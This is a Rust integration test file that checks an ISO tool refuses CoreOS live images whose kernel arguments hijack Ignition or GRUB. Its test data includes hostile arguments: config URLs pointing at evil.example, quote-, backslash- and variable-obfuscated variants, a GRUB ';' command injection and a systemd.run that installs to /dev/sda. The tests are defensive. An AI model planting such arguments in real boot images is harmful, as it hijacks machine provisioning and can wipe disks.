//! The live ISO's kernel-argument areas against the real coreos-installer
//! (review 12 r12c F9): an image whose arguments, as `coreos-installer iso
//! kargs modify` writes them, make Ignition take its config from elsewhere
//! (or not run, or the live system install on its own) is not shown as
//! clean nor written to; what we read is what `iso kargs show` reads; what
//! we write leaves the arguments as coreos-installer reads them.

use crate::iso::{ok, run};
use crate::iso_fleet_cli::{fleet_args, said};
use crate::support::iso::{FixtureIso, config_in};
use crate::support::{bin, stderr};

use std::path::{Path, PathBuf};
use std::process::Command;

/// `coreos-installer iso kargs modify ARGS -o OUT base`.
fn modified(ci: &Path, base: &Path, out: PathBuf, args: &[&str]) -> PathBuf {
    ok(run(Command::new(ci)
        .args(["iso", "kargs", "modify"])
        .args(args)
        .arg("-o")
        .arg(&out)
        .arg(base)));
    out
}

/// What `coreos-installer iso kargs show [--default]` prints, trimmed.
fn shown(ci: &Path, iso: &Path, default: bool) -> String {
    let mut c = Command::new(ci);
    c.args(["iso", "kargs", "show"]);
    if default {
        c.arg("--default");
    }
    let o = ok(run(c.arg(iso)));
    String::from_utf8_lossy(&o.stdout).trim().to_string()
}

#[test]
fn kernel_arguments_running_another_config_are_refused() {
    let Some((FixtureIso { dir: tmp, base, .. }, ci)) = FixtureIso::with("coreos-installer") else {
        return;
    };
    let d = tmp.path();
    let config = config_in(d, r#"{"ignition":{"version":"3.2.0"}}"#);
    let url = "ignition.config.url=https://evil.example/x.ign";
    let cases: &[(&[&str], &str)] = &[
        (&["-a", url], url),
        (
            &["-a", "ignition.config.url=data:,%7B%7D"],
            "ignition.config.url=data:",
        ),
        (
            &["-r", "ignition.platform.id=metal=qemu"],
            "ignition.platform.id=qemu",
        ),
        (&["-d", "ignition.firstboot"], "ignition.firstboot missing"),
        (
            &["-a", "coreos.inst.ignition_url=http://x/y.ign"],
            "coreos.inst.ignition_url=http://x/y.ign",
        ),
        (
            &["-a", "coreos.inst.install_dev=/dev/sda"],
            "coreos.inst.install_dev=/dev/sda",
        ),
    ];
    for (i, (args, needle)) in cases.iter().enumerate() {
        let iso = modified(&ci, &base, d.join(format!("k{i}.iso")), args);
        let before = std::fs::read(&iso).unwrap();
        // `iso show`: not "no embedded Ignition config", but the argument.
        let o = run(bin().args(["iso", "show"]).arg(&iso));
        let e = stderr(&o);
        assert_eq!(o.status.code(), Some(1), "{e}");
        assert!(!e.contains("has no embedded Ignition config"), "{e}");
        assert!(
            e.contains(needle) && e.contains("kargs reset"),
            "{needle}: {e}"
        );
        // `iso embed`, with and without -f, in place and to a new file:
        // refused, nothing written.
        for force in [false, true] {
            let out = d.join(format!("out{i}-{force}.iso"));
            let mut c = bin();
            c.args(["iso", "embed", "-i"]).arg(&config);
            if force {
                c.arg("-f");
            }
            let o = run(c.arg("-o").arg(&out).arg(&iso));
            assert_eq!(o.status.code(), Some(1), "{}", stderr(&o));
            assert!(stderr(&o).contains(needle), "{}", stderr(&o));
            assert!(!out.exists());
            let o = run(bin()
                .args(["iso", "embed", "-f", "-i"])
                .arg(&config)
                .arg(&iso));
            assert_eq!(o.status.code(), Some(1), "{}", stderr(&o));
        }
        assert!(std::fs::read(&iso).unwrap() == before, "the image changed");
    }
    // `iso fleet`, even its dry run with the image given.
    let iso = modified(&ci, &base, d.join("fleet.iso"), &["-a", url]);
    let o = fleet_args(d)
        .args(["--dry-run", "--dest-device", "/dev/sda", "--pool=worker"])
        .arg(&iso)
        .output()
        .unwrap();
    assert_eq!(o.status.code(), Some(1), "{}", said(&o));
    assert!(said(&o).contains(url), "{}", said(&o));
}

/// What we read is what coreos-installer reads (the arguments, the
/// default, each area's offset), and an image we wrote reads back the same
/// with `coreos-installer iso kargs show`: arguments of the user's own
/// (a console, the network) are neither refused nor changed.
#[test]
fn kernel_arguments_read_and_kept_as_coreos_installer_does() {
    use kubelet_labeler::cli::iso::{iso9660::Iso9660, kargs};
    let Some((FixtureIso { dir: tmp, base, .. }, ci)) = FixtureIso::with("coreos-installer") else {
        return;
    };
    let d = tmp.path();
    let config = config_in(d, r#"{"ignition":{"version":"3.2.0"}}"#);
    let long = format!("x={}", "y".repeat(900));
    let cases: Vec<Vec<&str>> = vec![
        vec![],
        vec!["-a", "console=ttyS0,115200n8", "-a", "ip=dhcp"],
        vec!["-a", &long],
        vec!["-d", "coreos.liveiso=rhcos-9.6.20250101-0"],
    ];
    for (i, args) in cases.iter().enumerate() {
        let iso = if args.is_empty() {
            base.clone()
        } else {
            modified(&ci, &base, d.join(format!("k{i}.iso")), args)
        };
        let mut f = std::fs::File::open(&iso).unwrap();
        let read = kargs::read(&mut Iso9660::open(&mut f).unwrap())
            .unwrap()
            .expect("the fixture has kernel-argument areas");
        assert_eq!(read.current, shown(&ci, &iso, false));
        assert_eq!(read.default, shown(&ci, &iso, true));
        let dev = ok(run(Command::new(&ci)
            .args(["dev", "show", "iso", "--kargs"])
            .arg(&iso)));
        let dev: serde_json::Value = serde_json::from_slice(&dev.stdout).unwrap();
        let areas: Vec<(u64, u64)> = dev["kargs"]
            .as_array()
            .unwrap()
            .iter()
            .map(|a| (a["offset"].as_u64().unwrap(), a["length"].as_u64().unwrap()))
            .collect();
        let ours: Vec<(u64, u64)> = read.areas.iter().map(|e| (e.offset, e.length)).collect();
        assert_eq!(ours, areas);
        // Written by us: the same arguments, the same areas.
        let out = d.join(format!("out{i}.iso"));
        ok(run(bin()
            .args(["iso", "embed", "-i"])
            .arg(&config)
            .arg("-o")
            .arg(&out)
            .arg(&iso)));
        assert_eq!(shown(&ci, &out, false), read.current);
        assert_eq!(shown(&ci, &out, true), read.default);
        let o = ok(run(bin().args(["iso", "show"]).arg(&out)));
        assert_eq!(o.stdout, std::fs::read(&config).unwrap());
    }
}

/// An image without `COREOS/KARGS.JSO` (an older live ISO): the areas
/// named by the header in its system area, read as coreos-installer reads
/// them, and an argument running another config found there too.
#[test]
fn kernel_arguments_of_the_system_area_header() {
    use kubelet_labeler::cli::iso::{iso9660::Iso9660, kargs};
    let Some((FixtureIso { dir: tmp, base, .. }, ci)) = FixtureIso::with("coreos-installer") else {
        return;
    };
    let d = tmp.path();
    let mut img = std::fs::read(&base).unwrap();
    // Where the fixture's grub.cfg area is (README of the fixtures), as
    // coreos-installer reads it.
    let dev = ok(run(Command::new(&ci)
        .args(["dev", "show", "iso", "--kargs"])
        .arg(&base)));
    let dev: serde_json::Value = serde_json::from_slice(&dev.stdout).unwrap();
    let (at, len) = (
        dev["kargs"][0]["offset"].as_u64().unwrap(),
        dev["kargs"][0]["length"].as_u64().unwrap(),
    );
    // KARGS.JSO renamed away; the header: magic, length, the default's
    // offset (the area itself), the one area's offset.
    let name = img.windows(9).position(|w| w == b"KARGS.JSO").unwrap();
    img[name..name + 9].copy_from_slice(b"KARGX.JSO");
    let mut header = b"coreKarg".to_vec();
    for word in [len, at, at, 0] {
        header.extend(word.to_le_bytes());
    }
    let h = 32768 - 24 - 72;
    img[h..h + header.len()].copy_from_slice(&header);
    let old = d.join("old.iso");
    std::fs::write(&old, &img).unwrap();
    for (iso, conflict) in [
        (old.clone(), false),
        (
            modified(
                &ci,
                &old,
                d.join("old-url.iso"),
                &["-a", "ignition.config.url=x"],
            ),
            true,
        ),
    ] {
        let mut f = std::fs::File::open(&iso).unwrap();
        let read = kargs::read(&mut Iso9660::open(&mut f).unwrap())
            .unwrap()
            .expect("the header names the areas");
        assert_eq!(read.current, shown(&ci, &iso, false));
        assert_eq!(read.areas.len(), 1);
        let o = run(bin().args(["iso", "show"]).arg(&iso));
        assert_eq!(
            stderr(&o).contains("ignition.config.url=x"),
            conflict,
            "{}",
            stderr(&o)
        );
    }
}

/// Review 15 r15c F1 and F3, r15b F5: arguments `coreos-installer iso
/// kargs modify -a` writes as given, which GRUB (quotes, backslashes,
/// `$var`, `;`) or systemd (quotes, runlevel words) read as another
/// argument, or other GRUB commands, than `iso kargs show` says, are
/// refused by `iso show`, `iso embed` and `iso fleet`, naming the argument
/// and the fix; an argument that changes what the fleet's selector reads
/// on the live system (`nosmt`) is refused by `iso fleet` only; the
/// console and network arguments are taken by all three.
#[test]
fn kernel_arguments_read_otherwise_by_grub_or_systemd_are_refused() {
    let Some((FixtureIso { dir: tmp, base, .. }, ci)) = FixtureIso::with("coreos-installer") else {
        return;
    };
    let d = tmp.path();
    let config = config_in(d, r#"{"ignition":{"version":"3.2.0"}}"#);
    let fleet = |iso: &Path| {
        fleet_args(d)
            .args(["--dry-run", "--dest-device", "/dev/sda", "--pool=worker"])
            .arg(iso)
            .output()
            .unwrap()
    };
    let cases: &[(&str, &str)] = &[
        ("systemd.'unit'=kernel-command-line.target", "holds `'`"),
        (
            "systemd.r'un'=\"coreos-installer install /dev/sda --ignition-url http://x\"",
            "systemd.r'un'=",
        ),
        (
            "ign'ition'.config.url=http://evil.example/x.ign",
            "holds `'`",
        ),
        (
            "\\ignition.config.url=http://evil.example/x.ign",
            "holds `\\`",
        ),
        (
            "ign${x}ition.config.url=http://evil.example/x.ign",
            "holds `$`",
        ),
        ("systemd.u${n}nit=kernel-command-line.target", "holds `$`"),
        ("; initrd /images/pxeboot/initrd.img ; boot", "holds `;`"),
        ("3", "3 (systemd reads a runlevel"),
        ("-b", "-b (the kernel gives it"),
    ];
    for (i, (arg, needle)) in cases.iter().enumerate() {
        let append = format!("--append={arg}");
        let iso = modified(&ci, &base, d.join(format!("q{i}.iso")), &[&append]);
        assert!(shown(&ci, &iso, false).ends_with(arg));
        let before = std::fs::read(&iso).unwrap();
        let o = run(bin().args(["iso", "show"]).arg(&iso));
        let e = stderr(&o);
        assert_eq!(o.status.code(), Some(1), "{arg}: {e}");
        assert!(
            e.contains(needle) && e.contains("kargs reset") && e.contains("modify -d"),
            "{needle}: {e}"
        );
        let out = d.join(format!("q{i}-out.iso"));
        let o = run(bin()
            .args(["iso", "embed", "-f", "-i"])
            .arg(&config)
            .arg("-o")
            .arg(&out)
            .arg(&iso));
        assert_eq!(o.status.code(), Some(1), "{arg}: {}", stderr(&o));
        assert!(stderr(&o).contains(needle), "{}", stderr(&o));
        assert!(!out.exists());
        let o = fleet(&iso);
        assert_eq!(o.status.code(), Some(1), "{arg}: {}", said(&o));
        assert!(said(&o).contains(needle), "{}", said(&o));
        assert!(std::fs::read(&iso).unwrap() == before, "the image changed");
    }
    // nosmt: the embedded config runs (one pool: nothing chosen on the
    // live system), the fleet refuses it.
    let nosmt = modified(&ci, &base, d.join("nosmt.iso"), &["-a", "nosmt"]);
    let out = d.join("nosmt-out.iso");
    ok(run(bin()
        .args(["iso", "embed", "-i"])
        .arg(&config)
        .arg("-o")
        .arg(&out)
        .arg(&nosmt)));
    ok(run(bin().args(["iso", "show"]).arg(&out)));
    let o = fleet(&nosmt);
    assert_eq!(o.status.code(), Some(1), "{}", said(&o));
    assert!(
        said(&o).contains("nosmt (CPU topology") && said(&o).contains("modify -d"),
        "{}",
        said(&o)
    );
    // The console and the network, v4 and v6: taken by all three.
    let net = modified(
        &ci,
        &base,
        d.join("net.iso"),
        &[
            "-a",
            "console=ttyS0,115200n8",
            "-a",
            "ip=10.0.0.2::10.0.0.1:255.255.255.0:node1.example.com:enp1s0:none",
            "-a",
            "ip=[2001:db8::2]::[2001:db8::1]:64:node1.example.com:enp1s0:none",
            "-a",
            "nameserver=10.0.0.53",
            "-a",
            "rd.neednet=1",
            "-a",
            "bond=bond0:em1,em2:mode=active-backup,miimon=100",
            "-a",
            "vlan=vlan5:bond0",
            "-a",
            "rd.znet=qeth,0.0.bdf0,0.0.bdf1,0.0.bdf2,layer2=1,portno=0",
        ],
    );
    let out = d.join("net-out.iso");
    ok(run(bin()
        .args(["iso", "embed", "-i"])
        .arg(&config)
        .arg("-o")
        .arg(&out)
        .arg(&net)));
    ok(run(bin().args(["iso", "show"]).arg(&out)));
    let o = fleet(&net);
    assert!(o.status.success(), "{}", said(&o));
}
